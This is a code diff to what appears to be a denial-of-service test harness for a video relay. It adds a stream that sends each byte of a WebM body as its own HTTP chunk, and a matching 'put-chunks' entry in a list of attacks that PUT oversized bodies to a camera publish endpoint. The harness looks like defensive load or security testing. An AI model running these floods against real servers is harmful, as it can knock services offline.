@@ -162,6 +162,12 @@ def void_elements() -> Stream:
     return Stream(webm_head(b"V_VP8"), _CLUSTER + _filled(_VOID, MESSAGE - len(_CLUSTER)))
 
 
+def tiny_chunks() -> Stream:
+    """The same as the body of a request, each byte in a chunk by itself (RFC 9112 section 7.1)."""
+    head = webm_head(b"V_VP8") + _CLUSTER
+    return Stream(b"%x\r\n%b\r\n" % (len(head), head), _filled(b"".join(b"1\r\n%c\r\n" % byte for byte in _VOID), MESSAGE))
+
+
 STREAMS: dict[str, tuple[str, Callable[[], Stream]]] = {
     "pps": ("picture parameter sets", picture_parameter_sets),
     "sps": ("sequence parameter sets", sequence_parameter_sets),
@@ -209,12 +215,12 @@ def _pieces(body: bytes) -> Iterator[bytes]:
     return (body[start : start + PIECE] for start in range(0, len(body), PIECE))
 
 
-async def puts(force: Force, name: str) -> None:
+async def puts(force: Force, make: Callable[[], Stream], framing: str = "Content-Length: 9000000000") -> None:
     """Such a stream in the body of a PUT, at a steady rate of bytes."""
-    stream = STREAMS[name][1]()
+    stream = make()
     head = (
         f"PUT /cameras/evil/publish HTTP/1.1\r\nHost: {force.site.authority}\r\nAuthorization: Bearer {force.site.filming}\r\n"
-        "Content-Length: 9000000000\r\n\r\n"
+        f"{framing}\r\n\r\n"
     ).encode() + stream.head
 
     async def connect() -> Putter:
@@ -280,6 +286,7 @@ async def doctypes(force: Force) -> None:
 _MESSAGES_WHY = "one alone froze the relay for up to 15 s; one every 2 s is an uplink of 32 Mbit/s"
 _UNFINISHED_WHY = "66 MB for each camera, one every 4 s"
 _UNFINISHED = 8 * 2**20
+_PUTS = 4 * 2**20
 
 ATTACKS = [
     *(
@@ -287,8 +294,18 @@ ATTACKS = [
         for name, (what, _) in STREAMS.items()
     ),
     *(
-        Attack(f"put-{name}", f"{what} by PUT", partial(puts, name=name), 4 * 2**20, BYTES, "as by messages", step=PIECE, guest=True)
-        for name, (what, _) in STREAMS.items()
+        Attack(f"put-{name}", f"{what} by PUT", partial(puts, make=make), _PUTS, BYTES, "as by messages", step=PIECE, guest=True)
+        for name, (what, make) in STREAMS.items()
+    ),
+    Attack(
+        "put-chunks",
+        "empty elements by PUT, in chunks of a byte",
+        partial(puts, make=tiny_chunks, framing="Transfer-Encoding: chunked"),
+        _PUTS,
+        BYTES,
+        "62 ms of work for every 200 KB",
+        step=PIECE,
+        guest=True,
     ),
     Attack("unfinished", "elements that do not end", unfinished, 2 * _UNFINISHED, BYTES, _UNFINISHED_WHY, step=_UNFINISHED, guest=True),
     Attack(
